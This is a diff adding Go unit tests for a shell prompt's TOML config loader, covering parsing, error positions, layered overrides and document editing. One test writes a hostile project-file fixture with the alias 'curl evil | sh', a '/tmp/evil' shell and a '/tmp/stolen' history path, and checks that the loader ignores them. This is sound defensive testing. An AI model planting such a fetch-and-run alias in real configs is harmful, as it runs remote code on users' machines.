@@ -3,6 +3,7 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -46,3 +47,407 @@ ls = "ls -la"
 		t.Fatalf("palette not parsed")
 	}
 }
+
+func TestLoadHistoryRedaction(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.toml")
+	content := `[history]
+ignore_space = false
+redact = ['corp_[a-z0-9]{8,}', '(?i)pin=\d+']
+redact_mode = "drop"
+detect_secrets = false
+`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	cfg, _, err := Load(path)
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	h := cfg.History
+	if h.IgnoreSpace || h.DetectSecrets || h.RedactMode != "drop" {
+		t.Fatalf("unexpected history options: %#v", h)
+	}
+	if len(h.Redact) != 2 || h.Redact[0] != "corp_[a-z0-9]{8,}" || h.Redact[1] != `(?i)pin=\d+` {
+		t.Fatalf("unexpected redact rules: %#v", h.Redact)
+	}
+
+	if err := os.WriteFile(path, []byte("[history]\nredact = ['(unclosed']\n"), 0o644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	if _, _, err := Load(path); err == nil {
+		t.Fatal("expected invalid regex to be rejected")
+	}
+}
+
+func TestLoadFileReportsPositions(t *testing.T) {
+	cases := []struct {
+		name    string
+		content string
+		want    []string
+	}{
+		{
+			name:    "unknown keys",
+			content: "preset = \"minimal\"\n[histroy]\npath = \"/h\"\n[prompt]\nsymbl = \">\"\n",
+			want:    []string{":2:2: unknown key \"histroy\"", ":5:1: unknown key \"prompt.symbl\""},
+		},
+		{
+			name:    "type mismatch",
+			content: "[history]\nmax_size = \"big\"\n",
+			want:    []string{":2:12: history.max_size: expected integer, got string"},
+		},
+		{
+			name:    "syntax error",
+			content: "[prompt]\nsymbol = \">\n",
+			want:    []string{":2:"},
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.toml")
+			if err := os.WriteFile(path, []byte(tc.content), 0o644); err != nil {
+				t.Fatalf("write config: %v", err)
+			}
+			_, err := LoadFile(path)
+			if err == nil {
+				t.Fatal("expected error")
+			}
+			for _, want := range tc.want {
+				if !strings.Contains(err.Error(), path+want) {
+					t.Fatalf("expected %q in error, got %q", path+want, err)
+				}
+			}
+		})
+	}
+}
+
+func TestLoadFileHandlesFullTOML(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.toml")
+	content := "\ufeffpreset = \"minimal\" # inline comment\n" +
+		"[prompt]\n" +
+		"symbol = \"\\u276f\"\n" +
+		"segments = [\n  \"user\",\n  \"path\", # trailing comma below\n]\n" +
+		"[alias]\n\"git st\" = 'git status --short'\n"
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	cfg, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	if cfg.Preset != "minimal" || cfg.Prompt.Symbol != "❯" {
+		t.Fatalf("unexpected values: %q %q", cfg.Preset, cfg.Prompt.Symbol)
+	}
+	if len(cfg.Prompt.Segments) != 2 || cfg.Prompt.Segments[1] != "path" {
+		t.Fatalf("unexpected segments: %#v", cfg.Prompt.Segments)
+	}
+	if cfg.Alias["git st"] != "git status --short" {
+		t.Fatalf("unexpected alias: %#v", cfg.Alias)
+	}
+	if cfg.History.MaxSize != 5000 {
+		t.Fatalf("expected default history size, got %d", cfg.History.MaxSize)
+	}
+}
+
+func TestLoadLayersOverridesPerKey(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("HOME", root)
+	t.Setenv("TERMFORGE_CONFIG", "")
+	t.Setenv("APPDATA", "")
+
+	write := func(path, content string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatalf("mkdir: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatalf("write %s: %v", path, err)
+		}
+	}
+	system := filepath.Join(root, "etc", "config.toml")
+	write(system, "preset = \"minimal\"\n[prompt]\nsymbol = \"$\"\n[palette]\npath_fg = \"#000000\"\n")
+	user := filepath.Join(root, "user.toml")
+	write(user, "[prompt]\nsymbol = \"λ\"\n[palette]\npath_bg = \"#111111\"\n")
+	project := filepath.Join(root, "repo", projectFileName)
+	write(project, "[prompt]\nsegments = [\"git\"]\n[palette]\nuser_bg = \"#222222\"\n")
+	workdir := filepath.Join(root, "repo", "src", "pkg")
+	if err := os.MkdirAll(workdir, 0o755); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+
+	orig := systemConfigPath
+	systemConfigPath = func() string { return system }
+	defer func() { systemConfigPath = orig }()
+	t.Setenv("VOID_HISTORY_MAX_SIZE", "77")
+	t.Setenv("VOID_PALETTE_PATH_FG", "#ffffff")
+	t.Setenv("VOID_ACTIVE_LABEL", "venv")
+	t.Setenv("VOID_PROMPT_UNICODE", "0")
+
+	r, err := LoadLayers(user, workdir)
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	cfg := r.Config
+	if cfg.Preset != "minimal" || cfg.Prompt.Symbol != "λ" || len(cfg.Prompt.Segments) != 1 || cfg.Prompt.Segments[0] != "git" {
+		t.Fatalf("unexpected prompt settings: preset=%q %#v", cfg.Preset, cfg.Prompt)
+	}
+	if cfg.History.MaxSize != 77 || cfg.Palette["path_fg"] != "#ffffff" || cfg.Palette["path_bg"] != "#111111" || cfg.Palette["user_bg"] != "#222222" {
+		t.Fatalf("unexpected merged config: %#v", cfg)
+	}
+
+	want := map[string]Source{
+		"preset":           {LayerSystem, system},
+		"prompt.symbol":    {LayerUser, user},
+		"prompt.segments":  {LayerProject, project},
+		"history.max_size": {LayerEnv, "VOID_HISTORY_MAX_SIZE"},
+		"palette.path_fg":  {LayerEnv, "VOID_PALETTE_PATH_FG"},
+		"palette.path_bg":  {LayerUser, user},
+		"palette.user_bg":  {LayerProject, project},
+		"shell.executable": {LayerDefault, ""},
+	}
+	for key, src := range want {
+		if got := r.Origins[key]; got != src {
+			t.Fatalf("origin of %s: expected %v, got %v", key, src, got)
+		}
+	}
+	if len(r.Files) != 3 || r.File(LayerUser) != user {
+		t.Fatalf("unexpected files: %#v", r.Files)
+	}
+}
+
+func TestProjectFileCannotChangeShellOrAliases(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("TERMFORGE_CONFIG", "")
+	t.Setenv("APPDATA", "")
+	dir := t.TempDir()
+	data := `preset = "hacker"
+alias.ls = "curl evil | sh"
+
+[shell]
+executable = "/tmp/evil"
+
+[prompt]
+symbol = "λ"
+
+[history]
+path = "/tmp/stolen"
+max_size = "not a number"
+
+[palette]
+user_bg = "#123456"
+`
+	if err := os.WriteFile(filepath.Join(dir, projectFileName), []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	r, err := LoadLayers("", dir)
+	if err != nil {
+		t.Fatalf("expected a project file not to break loading, got %v", err)
+	}
+	def := Default()
+	cfg := r.Config
+	if cfg.Preset != "hacker" || cfg.Prompt.Symbol != "λ" || cfg.Palette["user_bg"] != "#123456" {
+		t.Fatalf("expected the presentation keys to apply, got preset %q symbol %q palette %v", cfg.Preset, cfg.Prompt.Symbol, cfg.Palette)
+	}
+	if cfg.Shell.Executable != def.Shell.Executable || cfg.Alias["ls"] != def.Alias["ls"] || cfg.History.Path != expandHome(def.History.Path) {
+		t.Fatalf("expected shell, aliases and history to be left alone, got %+v %v %+v", cfg.Shell, cfg.Alias, cfg.History)
+	}
+	if r.Origins["shell.executable"].Layer != LayerDefault {
+		t.Fatalf("expected shell.executable to keep its default origin, got %v", r.Origins["shell.executable"])
+	}
+	if len(r.Warnings) != 1 {
+		t.Fatalf("expected one warning, got %q", r.Warnings)
+	}
+	for _, key := range []string{"alias.ls", "shell.executable", "history.path", "history.max_size"} {
+		if !strings.Contains(r.Warnings[0], key) {
+			t.Fatalf("expected the warning to name %s, got %q", key, r.Warnings[0])
+		}
+	}
+}
+
+func TestLoadLayersRejectsBadEnvValue(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("TERMFORGE_CONFIG", "")
+	t.Setenv("APPDATA", "")
+	t.Setenv("VOID_HISTORY_IGNORE_SPACE", "maybe")
+
+	_, err := LoadLayers("", t.TempDir())
+	if err == nil || !strings.Contains(err.Error(), "VOID_HISTORY_IGNORE_SPACE") {
+		t.Fatalf("expected env var in error, got %v", err)
+	}
+}
+
+func TestValidateColorMode(t *testing.T) {
+	if _, err := Parse("config.toml", []byte("[prompt]\ncolor_mode = \"256\"\n")); err != nil {
+		t.Fatalf("expected 256 to be accepted, got %v", err)
+	}
+	_, err := Parse("config.toml", []byte("[prompt]\ncolor_mode = \"8\"\n"))
+	if err == nil || !strings.Contains(err.Error(), "prompt.color_mode") {
+		t.Fatalf("expected color_mode error, got %v", err)
+	}
+}
+
+func TestValidateNotify(t *testing.T) {
+	cfg, err := Parse("config.toml", []byte("[prompt]\nnotify = \"desktop\"\nnotify_after = 30\n\n[segment.duration]\nthreshold = 500\n"))
+	if err != nil {
+		t.Fatalf("Parse returned error: %v", err)
+	}
+	if cfg.Prompt.Notify != "desktop" || cfg.Prompt.NotifyAfter != 30 || cfg.Segment["duration"].Threshold != 500 {
+		t.Fatalf("unexpected notify settings: %+v %+v", cfg.Prompt, cfg.Segment["duration"])
+	}
+	_, err = Parse("config.toml", []byte("[prompt]\nnotify = \"popup\"\n"))
+	if err == nil || !strings.Contains(err.Error(), "prompt.notify") {
+		t.Fatalf("expected notify error, got %v", err)
+	}
+}
+
+func TestDocumentSetAndUnsetKeepLayout(t *testing.T) {
+	doc := ParseDocument([]byte(`# Void configuration
+preset = "hacker"
+
+[prompt]
+# shown before the cursor
+symbol = ">" # plain
+segments = [
+  "user",
+  "path",
+]
+
+[alias]
+ll = "ls -la"
+`))
+	steps := []struct{ key, value string }{
+		{"prompt.symbol", "λ"},
+		{"prompt.segments", "git, path"},
+		{"alias.gs", "git status"},
+		{"alias.git st", "git status -sb"},
+		{"history.max_size", "100"},
+		{"preset", "minimal"},
+	}
+	for _, s := range steps {
+		if err := doc.Set(s.key, s.value); err != nil {
+			t.Fatalf("set %s: %v", s.key, err)
+		}
+	}
+	if removed, err := doc.Unset("alias.ll"); err != nil || !removed {
+		t.Fatalf("unset alias.ll: %v %v", removed, err)
+	}
+	want := `# Void configuration
+preset = "minimal"
+
+[prompt]
+# shown before the cursor
+symbol = "λ" # plain
+segments = ["git", "path"]
+
+[alias]
+gs = "git status"
+"git st" = "git status -sb"
+
+[history]
+max_size = 100
+`
+	if got := string(doc.Bytes()); got != want {
+		t.Fatalf("unexpected document:\n%s", got)
+	}
+	cfg, err := Parse("doc", doc.Bytes())
+	if err != nil {
+		t.Fatalf("parse edited document: %v", err)
+	}
+	if cfg.Alias["git st"] != "git status -sb" || cfg.History.MaxSize != 100 {
+		t.Fatalf("edited values not decoded: %#v", cfg)
+	}
+
+	if err := doc.Set("history.max_size", "lots"); err == nil {
+		t.Fatal("expected a non-integer max_size to be rejected")
+	}
+	if err := doc.Set("prompt.colour", "red"); err == nil {
+		t.Fatal("expected an unknown key to be rejected")
+	}
+}
+
+func TestDocumentSaveValidates(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.toml")
+	original := "\xef\xbb\xbf[history]\r\nmax_size = 10\r\n"
+	if err := os.WriteFile(path, []byte(original), 0o644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	doc, err := ReadDocument(path)
+	if err != nil {
+		t.Fatalf("read: %v", err)
+	}
+	if err := doc.Set("history.max_size", "0"); err != nil {
+		t.Fatalf("set: %v", err)
+	}
+	if err := doc.Save(path); err == nil {
+		t.Fatal("expected max_size 0 to fail validation")
+	}
+	if data, _ := os.ReadFile(path); string(data) != original {
+		t.Fatalf("invalid document was written: %q", data)
+	}
+
+	if err := doc.Set("history.max_size", "20"); err != nil {
+		t.Fatalf("set: %v", err)
+	}
+	if err := doc.Save(path); err != nil {
+		t.Fatalf("save: %v", err)
+	}
+	if data, _ := os.ReadFile(path); string(data) != "\xef\xbb\xbf[history]\r\nmax_size = 20\r\n" {
+		t.Fatalf("unexpected saved file: %q", data)
+	}
+}
+
+func TestDiffAgainstDefaults(t *testing.T) {
+	cfg, err := Parse("cfg", []byte("[prompt]\nsymbol = \">\"\nsegments = [\"git\"]\n[palette]\npath_fg = \"#fff\"\n"))
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	changes := Diff(cfg)
+	if len(changes) != 2 || changes[0].Key != "prompt.segments" || changes[1].Key != "palette.path_fg" || changes[1].Default != nil {
+		t.Fatalf("unexpected changes: %#v", changes)
+	}
+}
+
+func TestSegmentTables(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("TERMFORGE_CONFIG", "")
+	t.Setenv("APPDATA", "")
+	t.Setenv("VOID_SEGMENT_EXIT_CODE_MAX_LENGTH", "12")
+	t.Setenv("VOID_SEGMENT_TIME_TIME_FORMAT", "15:04")
+
+	dir := t.TempDir()
+	data := "[segment.time]\nformat = \"at {time}\"\n\n[segment.exit_code]\nicon = \"none\"\nwhen = \"error\"\n"
+	if err := os.WriteFile(filepath.Join(dir, ".void.toml"), []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r, err := LoadLayers("", dir)
+	if err != nil {
+		t.Fatalf("LoadLayers: %v", err)
+	}
+	time := r.Config.Segment["time"]
+	if time.Format != "at {time}" || time.TimeFormat != "15:04" {
+		t.Fatalf("expected format merged with the time layout from the environment, got %#v", time)
+	}
+	exit := r.Config.Segment["exit_code"]
+	if exit.Icon != "none" || exit.When != "error" || exit.MaxLength != 12 || exit.Format != "{code} {errors}" {
+		t.Fatalf("unexpected exit_code segment %#v", exit)
+	}
+	if got := r.Origins["segment.exit_code.max_length"]; got.Layer != LayerEnv {
+		t.Fatalf("expected env origin, got %v", got)
+	}
+
+	if _, err := Parse("bad.toml", []byte("[segment.git]\nwhen = \"sometimes\"\n")); err == nil || !strings.Contains(err.Error(), "segment.git.when") {
+		t.Fatalf("expected when error, got %v", err)
+	}
+
+	if _, err := Parse("bad.toml", []byte("[segment.tiem]\nformat = \"{time}\"\n")); err == nil || !strings.Contains(err.Error(), "unknown segment \"tiem\"") {
+		t.Fatalf("expected unknown segment error, got %v", err)
+	}
+
+	doc := ParseDocument(nil)
+	if err := doc.Set("segment.user.max_length", "10"); err != nil {
+		t.Fatal(err)
+	}
+	if got := string(doc.Bytes()); got != "[segment.user]\nmax_length = 10\n" {
+		t.Fatalf("unexpected document %q", got)
+	}
+}